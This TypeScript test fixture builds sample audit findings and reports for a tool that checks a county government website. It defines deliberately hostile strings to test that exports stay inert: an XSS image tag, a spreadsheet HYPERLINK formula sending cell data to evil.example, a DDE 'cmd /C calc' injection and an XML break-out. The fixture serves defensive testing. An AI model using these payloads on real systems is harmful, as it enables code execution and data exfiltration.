import { fingerprint } from '../../shared/engine/fingerprint.ts';
import type { Finding } from '../../shared/model/finding.ts';
import type { PageRecord, Report } from '../../shared/model/report.ts';
import { buildReport } from '../../shared/report/build-report.ts';

export const SITE = 'https://www.example-county.gov.cn/';
export const HOSTILE_TITLE = '<img src=x onerror=alert(1)>';
/** A 4×4 red PNG as a data URL: an inline evidence screenshot. */
export const RED_DOT_PNG =
  'data:image/png;base64,' +
  'iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEElEQVR4nGO4IycHRwzEcQDTIxGBFNCZswAAAABJRU5ErkJggg==';
export const HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

type Draft = Omit<Finding, 'id' | 'data' | 'indicators' | 'fix'> &
  Partial<Pick<Finding, 'data' | 'indicators' | 'fix'>>;

/** A finding as the engine would make it: fingerprint id from check, message, page and evidence. */
export function finding(draft: Draft): Finding {
  return {
    id: fingerprint(draft.checkId, draft.messageId, draft.url, draft.target, draft.text, draft.column),
    indicators: ['NAT-D20'],
    fix: { zh: '请核实并整改。', en: 'Check and fix.' },
    data: {},
    ...draft,
  };
}

const page = (path: string, title: string): PageRecord => ({
  url: SITE + path,
  finalUrl: SITE + path,
  status: 200,
  contentType: 'text/html',
  title,
  depth: 1,
  rendered: false,
});

export const BASE_FINDINGS: Finding[] = [
  finding({
    checkId: 'link-broken',
    category: 'broken-link',
    outcome: 'fail',
    severity: 'major',
    url: `${SITE}zwgk/index.html`,
    messageId: 'http-error',
    message: { zh: '链接无法访问（404）：https://old.example-county.gov.cn/a.pdf', en: 'Broken link' },
    target: 'https://old.example-county.gov.cn/a.pdf',
    column: '政务公开',
    data: { screenshot: RED_DOT_PNG },
  }),
  finding({
    checkId: 'link-broken',
    category: 'broken-link',
    outcome: 'fail',
    severity: 'major',
    url: `${SITE}jyj/news.html`,
    messageId: 'http-error',
    message: { zh: '链接无法访问（500）：https://www.example-county.gov.cn/x', en: 'Broken link' },
    target: 'https://www.example-county.gov.cn/x',
    column: '教育动态',
  }),
  finding({
    checkId: 'typo-confusion',
    category: 'typo',
    outcome: 'fail',
    severity: 'minor',
    url: `${SITE}jyj/news.html`,
    messageId: 'typo',
    message: { zh: '疑似错别字“帐号”，建议改为“账号”', en: 'Possible typo' },
    text: '帐号',
    suggestion: '账号',
    indicators: ['NAT-P9'],
    column: '教育动态',
  }),
  finding({
    checkId: 'spam-keywords',
    category: 'spam',
    outcome: 'fail',
    severity: 'veto',
    url: `${SITE}index.html`,
    messageId: 'hidden-link',
    message: { zh: '发现隐藏的违规链接', en: 'Hidden spam link' },
    target: 'https://casino.example/',
    indicators: ['NAT-V1'],
  }),
  finding({
    checkId: 'link-broken',
    category: 'broken-link',
    outcome: 'incomplete',
    severity: 'info',
    url: `${SITE}index.html`,
    messageId: 'inconclusive',
    message: { zh: '链接访问受限，需人工复核（403）：https://waf.example/', en: 'Inconclusive' },
    target: 'https://waf.example/',
  }),
];

/** Page-derived strings that must stay inert in every format. */
export const HOSTILE_FINDING = finding({
  checkId: 'typo-confusion',
  category: 'typo',
  outcome: 'fail',
  severity: 'minor',
  url: `${SITE}hostile.html`,
  messageId: 'typo',
  message: { zh: `疑似错别字：${HOSTILE_TITLE}`, en: 'Possible typo' },
  text: HOSTILE_TEXT,
  suggestion: "+cmd|' /C calc'!A0",
  column: '@SUM(1+1)',
  indicators: ['NAT-P9'],
  data: { control: 'a\u0001b\u000bc]]></w:t><w:p>' },
});

export function makeReport(findings: Finding[] = BASE_FINDINGS, startedAt = '2026-11-20T02:00:00Z'): Report {
  return buildReport({
    version: '0.1.0',
    startUrl: SITE,
    siteName: '示例县人民政府',
    startedAt: new Date(startedAt),
    finishedAt: new Date(Date.parse(startedAt) + 60_000),
    asOf: startedAt.slice(0, 10),
    profiles: ['county'],
    pages: [
      page('index.html', '示例县人民政府'),
      page('zwgk/index.html', '政务公开'),
      page('jyj/news.html', '教育动态'),
      { ...page('hostile.html', HOSTILE_TITLE) },
    ],
    findings,
    checks: [],
    linksProbed: 42,
  });
}

export const hostileReport = (): Report => makeReport([...BASE_FINDINGS, HOSTILE_FINDING]);

export const UNITS = { [`${SITE}jyj/`]: '县教育局', [SITE]: '县政府办公室' };
